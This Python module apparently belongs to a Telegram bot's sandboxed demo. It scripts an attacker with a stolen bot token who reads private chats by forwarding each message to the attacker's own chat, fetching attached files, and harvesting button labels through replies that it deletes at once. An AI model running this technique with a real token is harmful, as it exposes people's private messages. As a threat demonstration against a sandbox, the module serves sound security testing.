"""An attacker who has the bot's token and no database: reads back what stands in people's chats.

The Bot API has no method that reads a chat. But a message that is forwarded comes back with its text, and a reply comes
back with the message that it replies to, buttons included. Ids of messages in private chats are counted up, so that all
of them can be tried.
"""

import re
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from bot.demo.stage import Actor, Stage
from bot.sandbox.api import Api
from bot.sandbox.direct import download
from bot.sandbox.errors import ApiError
from bot.sandbox.limits import Limits, Meter

THIEF = 666
"""The attacker's own Telegram id."""
MARKS = (re.compile(r"✓"), re.compile(r"(?m)^\d+\. .+ – "), re.compile(r"Kirjoitit: "))
"""What shows an answer on our pages in Finnish: a ticked button, a line of the summary, words that are repeated."""


@dataclass(frozen=True)
class Words:
    """One message as the attacker reads it: its text or caption, and the labels of its buttons."""

    message_id: int
    text: str
    is_typed: bool
    """Whether the person wrote it, not the bot."""
    labels: tuple[str, ...] = ()

    def shows(self, private: Iterable[str]) -> bool:
        """Whether it shows an answer: one of these texts, or a mark of an answer."""
        content = "\n".join([self.text, *self.labels])
        return any(text in content for text in private) or any(mark.search(content) for mark in MARKS)


async def read_chat(stage: Stage, victim: Actor) -> list[Words]:
    """Every message of a person's chat that the token can read, oldest first.

    An attacker tries all numbers. Here only those of the chat are tried, because the others bring nothing.
    """
    api, thief = stage.sandbox, stage.sandbox.users.get(THIEF) or stage.sandbox.add_user("Varas", id=THIEF)
    thief.started = True
    meter, api.world.meter = api.world.meter, Meter(Limits.off())
    try:
        numbers = [message.message_id for message in victim.user.chat.history]
        return [words for number in numbers if (words := await _read(api, victim.user.id, number))]
    finally:
        api.world.meter = meter


async def _read(api: Api, chat_id: int, message_id: int) -> Words | None:
    """The message, forwarded to the attacker's own chat, and its buttons from a reply, which is deleted at once."""
    forwarded = await _call(api, "forwardMessage", chat_id=THIEF, from_chat_id=chat_id, message_id=message_id)
    if forwarded is None:
        return None
    text = forwarded.get("text") or forwarded.get("caption") or ""
    if "document" in forwarded:
        file = await _call(api, "getFile", file_id=forwarded["document"]["file_id"])
        content = download(api, api.token, file["file_path"]) if file else None
        text += content.content.decode(errors="replace") if content else ""
    reply = await _call(api, "sendMessage", chat_id=chat_id, text="x", reply_parameters={"message_id": message_id})
    is_typed = forwarded["forward_origin"]["sender_user"]["id"] == chat_id
    if reply is None:
        return Words(message_id, text, is_typed)
    await _call(api, "deleteMessage", chat_id=chat_id, message_id=reply["message_id"])
    rows = reply["reply_to_message"].get("reply_markup", {}).get("inline_keyboard", [])
    return Words(message_id, text, is_typed, tuple(button["text"] for row in rows for button in row))


async def _call(api: Api, method: str, **given: Any) -> Any:
    """The result of a method, None if the sandbox refuses it."""
    try:
        return await api.call(method, given, {})
    except ApiError:
        return None
